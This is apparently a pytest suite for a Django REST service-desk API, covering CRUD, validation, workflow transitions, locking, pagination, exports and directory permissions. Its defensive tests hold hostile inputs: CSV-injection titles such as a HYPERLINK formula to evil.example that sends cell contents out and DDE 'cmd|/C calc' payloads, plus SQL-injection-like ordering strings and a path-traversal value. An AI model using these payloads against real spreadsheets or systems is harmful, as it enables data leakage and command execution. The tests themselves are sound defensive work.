"""The REST API as a client uses it: service requests, transitions, lists, directory.

Covers CRUD through ``/api/service-requests/`` with session and token auth, field
validation (always a 400 with field messages, never a 500), mass assignment by a
requester, workflow transitions (409 / 400 / 403 with clear messages), optimistic
locking, strict ordering, cursor pagination without duplicates or gaps, a list whose
query count does not grow with the page, the OpenAPI schema and docs, and the
directory endpoints (scoped reads, administrator-only writes, the audit log).
"""

# covers: GEN-API (REST API, token and session auth, OpenAPI), REQ-4 (request workflow),
# GEN-LOCK (optimistic locking), GEN-SCALE (cursor pagination, constant query count),
# GEN-DIR (directory, roles, personal language), GEN-AUDIT (audit log readers)

from __future__ import annotations

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from itsm.conftest import PASSWORD
from itsm.core.choices import Role
from itsm.core.models import AuditEntry, Department, Organization, Team
from itsm.servicedesk.models import ServiceRequest

from .scenario import fingerprint

LIST = reverse("api:servicerequest-list")


def detail(pk: int) -> str:
    return reverse("api:servicerequest-detail", args=[pk])


def transition_url(pk: int) -> str:
    return reverse("api:servicerequest-transition", args=[pk])


def snapshot(record) -> tuple:
    """The columns of one record a refused change must leave as they were."""
    return tuple(ServiceRequest.objects.filter(pk=record.pk).values_list(
        "version", "status", "title", "description", "priority", "organization_id",
        "requester_id", "assignee_id", "assignee_team_id", "number", "created_by_id",
        "created_at", "updated_at", "resolution", "resolved_at", "closed_at").get())


# --- CRUD ----------------------------------------------------------------------------------


def test_agent_creates_reads_updates_a_request(world):
    client = world.client("agent")
    response = client.post(LIST, {
        "organization": world.orgs["A"].pk, "requester": world.requester_a.pk,
        "title": "VPN 无法连接", "description": "出差期间 VPN 断开", "priority": 2,
        "assignee_team": world.teams["desk"].pk, "category": "network",
    }, format="json")
    assert response.status_code == 201, response.json()
    data = response.json()
    assert data["number"].startswith("REQ-")
    assert data["status"] == "new"
    assert data["version"] == 1
    assert data["requester_name"] == "requester_a"
    assert data["assignee_team_name"] == "一线服务台"

    got = client.get(detail(data["id"]))
    assert got.status_code == 200
    assert got.json()["title"] == "VPN 无法连接"

    patched = client.patch(detail(data["id"]), {"title": "VPN 断线", "priority": 1},
                           format="json")
    assert patched.status_code == 200, patched.json()
    assert patched.json()["version"] == 2
    record = ServiceRequest.objects.get(pk=data["id"])
    assert (record.title, record.priority) == ("VPN 断线", 1)
    # The write went through the service layer: audited and on the timeline.
    assert AuditEntry.objects.filter(object_id=str(record.pk), action="update").exists()
    assert record.timeline.filter(kind="updated").exists()


def test_requester_creates_for_own_organization_only(world):
    client = world.client("requester_a")
    response = client.post(LIST, {"title": "新员工电脑", "description": "需要一台笔记本"},
                           format="json")
    assert response.status_code == 201, response.json()
    record = ServiceRequest.objects.get(pk=response.json()["id"])
    assert record.organization == world.orgs["A"]
    assert record.requester == world.requester_a
    assert record.created_by == world.requester_a


def test_only_administrators_delete(world):
    record = world.request("requester_a")
    response = world.client("agent").delete(detail(record.pk))
    assert response.status_code == 403
    assert ServiceRequest.objects.filter(pk=record.pk).exists()
    response = world.client("admin").delete(detail(record.pk))
    assert response.status_code == 204
    assert not ServiceRequest.objects.filter(pk=record.pk).exists()
    assert AuditEntry.objects.filter(object_id=str(record.pk), action="delete").exists()


def test_token_authentication(world):
    anonymous = APIClient()
    response = anonymous.post(reverse("api:token"),
                              {"username": "agent", "password": PASSWORD}, format="json")
    assert response.status_code == 200, response.content
    token = response.json()["token"]
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    record = world.request("requester_b")
    response = client.get(LIST)
    assert response.status_code == 200
    assert [r["number"] for r in response.json()["results"]] == [record.number]
    response = client.post(LIST, {"organization": world.orgs["A"].pk,
                                  "requester": world.requester_a.pk, "title": "via token"},
                           format="json")
    assert response.status_code == 201
    assert ServiceRequest.objects.get(pk=response.json()["id"]).created_by == world.agent

    bad = APIClient()
    bad.credentials(HTTP_AUTHORIZATION="Token not-a-token")
    assert bad.get(LIST).status_code == 401


def test_token_with_a_wrong_password_is_refused(world):
    response = APIClient().post(reverse("api:token"),
                                {"username": "agent", "password": "wrong password"},
                                format="json")
    assert response.status_code == 400
    assert "token" not in response.json()


# --- Validation: 400 with a field message, never a 500 --------------------------------------


def _base(world, **changes):
    return {"organization": world.orgs["A"].pk, "requester": world.requester_a.pk,
            "title": "打印机卡纸", **changes}


@pytest.mark.parametrize(("case", "field"), [
    ("missing_title", "title"),
    ("long_title", "title"),
    ("requester_of_other_customer", "requester"),
    ("requester_of_other_provider", "requester"),
    ("assignee_is_customer", "assignee"),
    ("team_of_provider_q", "assignee_team"),
    ("bad_priority", "priority"),
    ("priority_as_text", "priority"),
    ("organization_out_of_scope", "organization"),
    ("missing_organization", "organization"),
])
def test_validation_errors_are_400_with_field_messages(world, case, field):
    data = {
        "missing_title": {k: v for k, v in _base(world).items() if k != "title"},
        "long_title": _base(world, title="长" * 201),
        "requester_of_other_customer": _base(world, requester=world.requester_b.pk),
        "requester_of_other_provider": _base(world, requester=world.requester_c.pk),
        "assignee_is_customer": _base(world, assignee=world.requester_a.pk),
        "team_of_provider_q": _base(world, assignee_team=world.teams["q_desk"].pk),
        "bad_priority": _base(world, priority=9),
        "priority_as_text": _base(world, priority="urgent"),
        "organization_out_of_scope": _base(world, organization=world.orgs["C"].pk),
        "missing_organization": {k: v for k, v in _base(world).items() if k != "organization"},
    }[case]
    response = world.client("agent").post(LIST, data, format="json")
    assert response.status_code == 400, (response.status_code, response.content[:300])
    errors = response.json()
    assert field in errors, errors
    assert all(isinstance(m, str) and m for m in errors[field])
    assert ServiceRequest.objects.count() == 0


@pytest.mark.parametrize("body", [b"{not json", b"[1, 2]", b'"text"', b"null", b"\xff\xfe"])
def test_garbage_bodies_are_400(world, body):
    record = world.request("requester_a")
    client = world.client("agent")
    for method, url in [("post", LIST), ("patch", detail(record.pk)),
                        ("post", transition_url(record.pk)),
                        ("post", reverse("api:servicerequest-comments", args=[record.pk]))]:
        response = getattr(client, method)(url, body, content_type="application/json")
        assert response.status_code == 400, (method, url, response.status_code)
    assert ServiceRequest.objects.count() == 1


def test_bad_filter_values_are_400(world):
    client = world.client("agent")
    for query in ({"priority": 9}, {"status": "bogus"}, {"created_after": "yesterday"},
                  {"organization": "abc"}, {"due_before": "2026-13-45"}):
        response = client.get(LIST, query)
        assert response.status_code == 400, (query, response.status_code)


def test_non_numeric_ids_are_404_not_500(world):
    client = world.client("agent")
    for url in ["/api/service-requests/abc/", "/api/service-requests/abc/transitions/",
                "/api/attachments/abc/", "/api/attachments/abc/download/",
                "/api/people/abc/", "/api/audit-log/abc/", "/api/teams/abc/"]:
        assert client.get(url).status_code == 404, url


# --- Mass assignment -------------------------------------------------------------------------


@pytest.mark.parametrize("changes", [
    {"organization": "B"},
    {"status": "closed"},
    {"number": "REQ-1999-000001"},
    {"assignee": "agent"},
    {"assignee_team": "desk"},
    {"owner": "agent"},
    {"priority": 1},
    {"requester": "requester_a2"},
    {"created_by": "requester_a2"},
    {"created_at": "2020-01-01T00:00:00Z"},
    {"updated_at": "2020-01-01T00:00:00Z"},
    {"resolution": "done"},
    {"resolved_at": "2020-01-01T00:00:00Z"},
    {"closed_at": "2020-01-01T00:00:00Z"},
    {"id": 999},
    {"version": 5},
], ids=lambda c: next(iter(c)))
def test_requester_cannot_mass_assign(world, changes):
    record = world.request("requester_a")
    before = snapshot(record)
    resolve = {"B": world.orgs["B"].pk, "agent": world.agent.pk,
               "desk": world.teams["desk"].pk, "requester_a2": world.requester_a2.pk}
    payload = {k: resolve.get(v, v) if isinstance(v, str) else v for k, v in changes.items()}
    response = world.client("requester_a").patch(detail(record.pk), payload, format="json")
    assert response.status_code in (200, 400, 409), response.status_code
    assert snapshot(record) == before
    assert ServiceRequest.objects.filter(pk=999).count() == 0


def test_requester_cannot_set_staff_fields_on_create(world):
    response = world.client("requester_a").post(LIST, {
        "title": "x", "priority": 1, "assignee": world.agent.pk, "status": "closed",
        "number": "REQ-1999-000001", "organization": world.orgs["B"].pk,
    }, format="json")
    if response.status_code == 201:
        record = ServiceRequest.objects.get()
        assert record.priority == 3 and record.assignee is None and record.status == "new"
        assert record.organization == world.orgs["A"]
        assert record.number != "REQ-1999-000001"
    else:
        assert response.status_code == 400
        assert ServiceRequest.objects.count() == 0


def test_requester_may_edit_only_while_new(world):
    record = world.request("requester_a")
    client = world.client("requester_a")
    response = client.patch(detail(record.pk), {"title": "改了标题"}, format="json")
    assert response.status_code == 200
    world.client("agent").post(transition_url(record.pk), {
        "transition": "assign", "values": {"assignee_team": world.teams["desk"].pk}},
        format="json")
    before = snapshot(record)
    response = client.patch(detail(record.pk), {"title": "再改"}, format="json")
    assert response.status_code == 403
    assert snapshot(record) == before


# --- Transitions ------------------------------------------------------------------------------


def _transition(client, record, name, **body):
    return client.post(transition_url(record.pk), {"transition": name, **body}, format="json")


def test_full_lifecycle_through_the_api(world):
    record = world.request("requester_a")
    agent = world.client("agent")
    response = _transition(agent, record, "assign",
                           values={"assignee_team": world.teams["desk"].pk})
    assert response.status_code == 200, response.content
    assert response.json()["status"] == "assigned"
    response = _transition(agent, record, "start", values={"assignee": world.engineer.pk})
    assert response.status_code == 200, response.content
    assert response.json()["assignee"] == world.engineer.pk
    response = _transition(agent, record, "resolve", values={"resolution": "更换了硒鼓"},
                           comment="已处理")
    assert response.status_code == 200, response.content
    assert response.json()["status"] == "resolved"
    assert response.json()["resolution"] == "更换了硒鼓"
    assert response.json()["resolved_at"]
    response = _transition(world.client("requester_a"), record, "close")
    assert response.status_code == 200, response.content
    record.refresh_from_db()
    assert record.status == "closed" and record.closed_at is not None
    kinds = list(record.timeline.values_list("kind", flat=True))
    assert kinds.count("transitioned") == 4
    assert record.comments.filter(body="已处理").exists()


def test_illegal_transition_is_409_with_a_message(world):
    record = world.request("requester_a")
    before = snapshot(record)
    response = _transition(world.client("agent"), record, "resolve",
                           values={"resolution": "x"})
    assert response.status_code == 409
    body = response.json()
    assert record.number in body["detail"]
    assert body["code"] == "illegal_transition"
    assert snapshot(record) == before


def test_unknown_transition_is_refused_with_a_message(world):
    record = world.request("requester_a")
    response = _transition(world.client("agent"), record, "teleport")
    assert response.status_code in (400, 409)
    assert "teleport" in response.json()["detail"]


@pytest.mark.parametrize(("name", "values", "field"), [
    ("start", {}, "assignee"),
    ("assign", {}, "assignee_team"),
    ("cancel", {}, "comment"),
])
def test_missing_required_field_is_400_naming_it(world, name, values, field):
    record = world.request("requester_a")
    before = snapshot(record)
    response = _transition(world.client("agent"), record, name, values=values)
    assert response.status_code == 400
    assert field in response.json(), response.json()
    assert snapshot(record) == before


def test_resolve_without_resolution_is_400(world):
    record = world.request("requester_a")
    agent = world.client("agent")
    assert _transition(agent, record, "start",
                       values={"assignee": world.agent.pk}).status_code == 200
    record.refresh_from_db()
    before = snapshot(record)
    response = _transition(agent, record, "resolve", values={"resolution": ""})
    assert response.status_code == 400
    assert "resolution" in str(response.json())
    assert snapshot(record) == before


def test_transition_values_are_validated_and_scoped(world):
    record = world.request("requester_a")
    agent = world.client("agent")
    before = snapshot(record)
    for values in ({"assignee_team": world.teams["q_desk"].pk},
                   {"assignee": world.requester_a.pk},
                   {"assignee": "nobody"},
                   {"status": "closed"},
                   {"organization": world.orgs["B"].pk}):
        response = _transition(agent, record, "assign", values=values)
        assert response.status_code == 400, (values, response.status_code, response.content)
    assert snapshot(record) == before


def test_requester_may_not_perform_agent_transitions(world):
    record = world.request("requester_a")
    before = snapshot(record)
    response = _transition(world.client("requester_a"), record, "start",
                           values={"assignee": world.agent.pk})
    assert response.status_code == 403
    assert response.json()["detail"]
    assert snapshot(record) == before


def test_stale_version_on_transition_is_409(world):
    record = world.request("requester_a")
    agent = world.client("agent")
    response = _transition(agent, record, "assign", version=1,
                           values={"assignee_team": world.teams["desk"].pk})
    assert response.status_code == 200
    before = snapshot(record)
    response = _transition(agent, record, "start", version=1,
                           values={"assignee": world.agent.pk})
    assert response.status_code == 409
    assert response.json()["code"] == "version_conflict"
    assert snapshot(record) == before


def test_available_transitions_depend_on_the_caller(world):
    record = world.request("requester_a")
    url = reverse("api:servicerequest-available-transitions", args=[record.pk])

    def names(username):
        response = world.client(username).get(url)
        assert response.status_code == 200
        return {t["name"] for t in response.json()}

    assert names("agent") == {"assign", "start", "cancel"}
    assert names("requester_a") == {"cancel"}
    assert names("custadmin_a") == {"cancel"}
    assert names("auditor") == set()
    start = next(t for t in world.client("agent").get(url).json() if t["name"] == "start")
    assert start["required"] == ["assignee"]
    cancel = next(t for t in world.client("agent").get(url).json() if t["name"] == "cancel")
    assert cancel["comment_required"] is True


# --- Optimistic locking ------------------------------------------------------------------------


def test_optimistic_locking_on_patch(world):
    record = world.request("requester_a")
    agent = world.client("agent")
    response = agent.patch(detail(record.pk), {"title": "第一", "version": 1}, format="json")
    assert response.status_code == 200
    assert response.json()["version"] == 2
    response = agent.patch(detail(record.pk), {"title": "第二", "version": 1}, format="json")
    assert response.status_code == 409
    assert record.number in response.json()["detail"]
    record.refresh_from_db()
    assert (record.title, record.version) == ("第一", 2)
    response = agent.patch(detail(record.pk), {"title": "第二", "version": 2}, format="json")
    assert response.status_code == 200
    assert response.json()["version"] == 3


# --- Ordering and pagination ------------------------------------------------------------------


def _make_requests(world, count: int, **data):
    return [world.request("requester_a", title=f"请求 {i:03d}", **data) for i in range(count)]


def test_allowed_ordering(world):
    records = _make_requests(world, 3)
    for i, record in enumerate(records):
        ServiceRequest.objects.filter(pk=record.pk).update(priority=[2, 1, 4][i])
    client = world.client("agent")
    got = [r["priority"] for r in client.get(LIST, {"ordering": "priority"}).json()["results"]]
    assert got == [1, 2, 4]
    got = [r["number"] for r in client.get(LIST, {"ordering": "-number"}).json()["results"]]
    assert got == sorted((r.number for r in records), reverse=True)
    got = [r["number"] for r in client.get(LIST, {"ordering": "number"}).json()["results"]]
    assert got == sorted(r.number for r in records)


def test_empty_ordering_uses_the_default(world):
    records = _make_requests(world, 3)
    for ordering in (",", " , "):
        response = world.client("agent").get(LIST, {"ordering": ordering})
        assert response.status_code == 200
        assert [r["number"] for r in response.json()["results"]] == [
            r.number for r in reversed(records)]


@pytest.mark.parametrize("ordering", ["password", ";drop", "-", "requester__password", "title",
                                      "-version,priority", "priority;drop table x", "?"])
def test_junk_ordering_is_400(world, ordering):
    _make_requests(world, 2)
    response = world.client("agent").get(LIST, {"ordering": ordering})
    assert response.status_code == 400, response.status_code
    assert "ordering" in response.json()
    ui = world.client("agent").get(reverse("servicedesk:request-list"), {"ordering": ordering})
    assert ui.status_code == 400


def _walk(client, params) -> tuple[list[str], int]:
    seen, pages = [], 0
    response = client.get(LIST, params)
    while True:
        assert response.status_code == 200, response.content
        data = response.json()
        seen += [r["number"] for r in data["results"]]
        pages += 1
        if not data["next"]:
            return seen, pages
        response = client.get(data["next"])


@pytest.mark.parametrize("ordering", [None, "priority", "-priority", "number", "-updated_at",
                                      "status"])
def test_cursor_pagination_has_no_duplicates_or_gaps(world, ordering):
    records = _make_requests(world, 60)
    for i, record in enumerate(records):  # ties on purpose: 3 distinct priorities
        ServiceRequest.objects.filter(pk=record.pk).update(priority=1 + i % 3)
    params = {"page_size": 25, **({"ordering": ordering} if ordering else {})}
    seen, pages = _walk(world.client("agent"), params)
    assert pages == 3
    assert len(seen) == len(set(seen)) == 60
    assert set(seen) == {r.number for r in records}


def test_damaged_cursor_is_a_400_not_a_500(world):
    import base64

    world.request("requester_a")
    cursor = base64.b64encode(b"o=0&p=not-a-priority").decode()
    response = world.client("agent").get(LIST, {"ordering": "priority", "cursor": cursor})
    assert response.status_code == 400
    assert "cursor" in response.json()


def test_list_query_count_does_not_grow_with_page_size(world):
    client = world.client("agent")
    records = _make_requests(world, 50)
    for record in records:
        ServiceRequest.objects.filter(pk=record.pk).update(
            assignee=world.engineer, owner=world.lead, assignee_team=world.teams["desk"])

    def count(page_size: int) -> int:
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(LIST, {"page_size": page_size})
        assert response.status_code == 200
        assert len(response.json()["results"]) == page_size
        return len(ctx.captured_queries)

    count(5)  # warm-up: session bookkeeping and caches of the first request
    small, large = count(5), count(50)
    assert large == small, (small, large)
    assert small <= 12


def test_export_formats(world):
    world.request("requester_a")
    client = world.client("agent")
    url = reverse("api:servicerequest-export")
    response = client.get(url, {"file_format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment")
    response = client.get(url, {"file_format": "csv"})
    assert response.status_code == 200
    assert response.content.decode("utf-8-sig").splitlines()[1].startswith("REQ-")
    for bad in ("pdf", "../etc", ""):
        assert client.get(url, {"file_format": bad}).status_code == 400
        ui = client.get(reverse("servicedesk:request-export"), {"file_format": bad})
        assert ui.status_code == 400


def test_xlsx_export_drops_control_characters(world):
    """Found by fuzzing: a title with a control character made the XLSX export a 500."""
    import io

    from openpyxl import load_workbook

    world.request("requester_a", title="打印机\x07卡纸\x1b")
    response = world.client("agent").get(reverse("api:servicerequest-export"),
                                          {"file_format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "打印机卡纸" in [cell.value for cell in sheet[2]]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exported_text_never_becomes_a_spreadsheet_formula(world, file_format):
    """CSV injection: a title a spreadsheet would run (=HYPERLINK, +cmd, @SUM, -2+3) is
    exported as text with a leading apostrophe; ordinary text is untouched."""
    import csv
    import io

    from openpyxl import load_workbook

    titles = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "打印机卡纸"]
    for title in titles:
        world.request("requester_a", title=title)
    response = world.client("agent").get(reverse("api:servicerequest-export"),
                                          {"file_format": file_format})
    assert response.status_code == 200
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        rows = [[cell.value for cell in row]
                for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]
    column = rows[0].index(next(h for h in rows[0] if h in ("title", "标题")))
    exported = sorted(row[column] for row in rows[1:])
    assert exported == sorted(["'" + t for t in titles[:4]] + [titles[4]])


def test_date_filters_compare_in_utc_and_refuse_what_no_database_holds(world):
    """Found by fuzzing: an offset beyond ±15:59 (valid ISO 8601, refused by
    PostgreSQL) was a 500, and so was an instant before year 1 in UTC."""
    world.request("requester_a")
    client = world.client("agent")
    response = client.get(LIST, {"created_after": "0222-02-18T09:58:36-17:31"})
    assert response.status_code == 200 and len(response.json()["results"]) == 1
    response = client.get(LIST, {"created_before": "0001-01-01T00:00:00+05:00"})
    assert response.status_code == 400 and "created_before" in response.json()


# --- Schema and docs ---------------------------------------------------------------------------


def test_schema_and_docs(world):
    client = world.client("agent")
    schema = client.get(reverse("api:schema"))
    assert schema.status_code == 200
    text = schema.content.decode()
    for path in ("/api/service-requests/:", "/api/service-requests/{id}/:",
                 "/api/service-requests/{id}/transition/:",
                 "/api/service-requests/{id}/transitions/:",
                 "/api/service-requests/{id}/attachments/:",
                 "/api/service-requests/export/:", "/api/attachments/{id}/download/:",
                 "/api/me/:", "/api/audit-log/:"):
        assert path in text, path
    docs = client.get(reverse("api:docs"))
    assert docs.status_code == 200
    assert b"swagger" in docs.content.lower()


def test_schema_generates_without_warnings_and_validates(tmp_path):
    """Every view describes itself (serializers, parameters, auth): drf-spectacular has
    nothing to guess, and the result is a valid OpenAPI document (what the fuzzer uses)."""
    from django.core.management import call_command
    from drf_spectacular.drainage import GENERATOR_STATS

    GENERATOR_STATS.reset()
    call_command("spectacular", "--validate", "--fail-on-warn",
                 "--file", str(tmp_path / "schema.yaml"))
    assert (tmp_path / "schema.yaml").read_text().startswith("openapi: 3")


# --- Directory ----------------------------------------------------------------------------------


def test_directory_reads_are_scoped(world):
    def ids(username, route):
        response = world.client(username).get(reverse(route))
        assert response.status_code == 200
        return {row["id"] for row in response.json()["results"]}

    orgs = world.orgs
    assert ids("agent", "api:organization-list") == {orgs[c].pk for c in "PAB"}
    assert ids("agent_q", "api:organization-list") == {orgs[c].pk for c in "QC"}
    assert ids("requester_a", "api:organization-list") == {orgs["A"].pk}
    assert ids("agent", "api:team-list") == {world.teams["desk"].pk}
    assert ids("requester_a", "api:team-list") == set()
    people_a = ids("requester_a", "api:person-list")
    assert people_a == {world.users[u].pk for u in ("requester_a", "requester_a2",
                                                     "custadmin_a")}
    assert world.requester_c.pk not in ids("admin", "api:person-list")


@pytest.mark.parametrize(("route", "data"), [
    ("api:organization-list", {"name": "新客户", "code": "new", "kind": "customer"}),
    ("api:department-list", {"name": "财务部"}),
    ("api:team-list", {"name": "二线支持"}),
    ("api:person-list", {"username": "newbie", "first_name": "小", "last_name": "王",
                         "email": "newbie@example.cn", "roles": ["requester"]}),
])
def test_directory_writes_are_for_administrators(world, route, data):
    org_field = {"api:organization-list": ("provider", "P"),
                 "api:team-list": ("organization", "P")}.get(route, ("organization", "A"))
    payload = {**data, org_field[0]: world.orgs[org_field[1]].pk}
    before = fingerprint()
    # A customer administrator creates the people of their own organization
    # (test_people); organizations, departments and teams are the provider's.
    refused = ("agent", "lead", "auditor", "requester_a") + (
        () if route == "api:person-list" else ("custadmin_a",))
    for username in refused:
        response = world.client(username).post(reverse(route), payload, format="json")
        assert response.status_code == 403, (username, response.status_code)
    assert fingerprint() == before
    response = world.client("admin").post(reverse(route), payload, format="json")
    assert response.status_code == 201, response.json()
    assert "password" not in response.json()
    assert AuditEntry.objects.filter(action="create").count() > 0


def test_administrator_cannot_write_outside_scope(world):
    admin = world.client("admin")
    before = fingerprint()
    cases = [
        ("api:department-list", {"name": "X", "organization": world.orgs["C"].pk}),
        ("api:team-list", {"name": "X", "organization": world.orgs["Q"].pk}),
        ("api:team-list", {"name": "X", "organization": world.orgs["P"].pk,
                           "members": [world.agent_q.pk]}),
        ("api:person-list", {"username": "x", "organization": world.orgs["C"].pk}),
        ("api:organization-list", {"name": "X", "code": "x", "kind": "customer",
                                   "provider": world.orgs["Q"].pk}),
    ]
    for route, data in cases:
        response = admin.post(reverse(route), data, format="json")
        assert response.status_code == 400, (route, response.status_code, response.content)
    assert fingerprint() == before


def test_administrator_updates_a_person_and_roles(world):
    admin = world.client("admin")
    url = reverse("api:person-detail", args=[world.requester_a2.pk])
    response = admin.patch(url, {"roles": ["customer_admin", "requester"], "phone": "13800000000"},
                           format="json")
    assert response.status_code == 200, response.json()
    assert response.json()["roles"] == ["customer_admin", "requester"]
    world.requester_a2.refresh_from_db()
    assert set(world.requester_a2.groups.values_list("name", flat=True)) == {
        Role.CUSTOMER_ADMIN, Role.REQUESTER}
    assert world.requester_a2.profile.phone == "13800000000"


def test_deleting_an_organization_in_use_is_409_not_500(world):
    response = world.client("admin").delete(
        reverse("api:organization-detail", args=[world.orgs["A"].pk]))
    assert response.status_code == 409
    assert response.json()["code"] == "in_use"
    assert Organization.objects.filter(pk=world.orgs["A"].pk).exists()
    dept = Department.objects.create(organization=world.orgs["A"], name="空部门")
    response = world.client("admin").delete(reverse("api:department-detail", args=[dept.pk]))
    assert response.status_code == 204


def test_me_and_language(world):
    client = world.client("requester_a")
    me = client.get(reverse("api:me"))
    assert me.status_code == 200
    assert me.json()["username"] == "requester_a"
    assert me.json()["organization"] == world.orgs["A"].pk
    assert "password" not in me.json()
    response = client.patch(reverse("api:me"), {"language": "en"}, format="json")
    assert response.status_code == 200
    assert response.json()["language"] == "en"
    world.requester_a.profile.refresh_from_db()
    assert world.requester_a.profile.language == "en"
    response = client.patch(reverse("api:me"), {"language": "klingon"}, format="json")
    assert response.status_code == 400
    assert "language" in response.json()
    # Nothing but the language can be changed here.
    response = client.patch(reverse("api:me"), {"language": "en", "roles": ["administrator"],
                                                "organization": world.orgs["P"].pk,
                                                "is_active": False}, format="json")
    assert response.status_code == 200
    world.requester_a.refresh_from_db()
    assert set(world.requester_a.groups.values_list("name", flat=True)) == {Role.REQUESTER}
    assert world.requester_a.profile.organization == world.orgs["A"]
    assert world.requester_a.is_active


def test_roles(world):
    response = world.client("requester_a").get(reverse("api:roles"))
    assert response.status_code == 200
    assert {r["code"] for r in response.json()} == set(Role.values)
    assert all(r["label"] for r in response.json())


def test_audit_log_is_for_auditors_and_administrators(world):
    world.request("requester_a")
    world.request("requester_c")
    url = reverse("api:auditentry-list")
    for username in ("auditor", "admin"):
        response = world.client(username).get(url)
        assert response.status_code == 200
        rows = response.json()["results"]
        assert rows
        in_scope = {world.orgs[c].pk for c in "PAB"}
        assert {r["organization_id"] for r in rows} <= in_scope
    for username in ("agent", "lead", "requester_a", "custadmin_a", "agent_q"):
        response = world.client(username).get(url)
        assert response.status_code in (200, 403)
        if response.status_code == 200:
            assert response.json()["results"] == []
    entry = AuditEntry.objects.filter(organization_id=world.orgs["A"].pk).first()
    assert world.client("agent").get(
        reverse("api:auditentry-detail", args=[entry.pk])).status_code == 404
    before = AuditEntry.objects.count()
    for username in ("auditor", "admin"):
        response = world.client(username).post(url, {"action": "create"}, format="json")
        assert response.status_code in (403, 405)
        response = world.client(username).delete(
            reverse("api:auditentry-detail", args=[entry.pk]))
        assert response.status_code in (403, 405)
    assert AuditEntry.objects.count() == before


def test_team_members_are_scoped(world):
    response = world.client("admin").patch(
        reverse("api:team-detail", args=[world.teams["desk"].pk]),
        {"members": [world.agent.pk, world.engineer.pk]}, format="json")
    assert response.status_code == 200, response.json()
    assert set(Team.objects.get(pk=world.teams["desk"].pk).members.all()) == {
        world.agent, world.engineer}
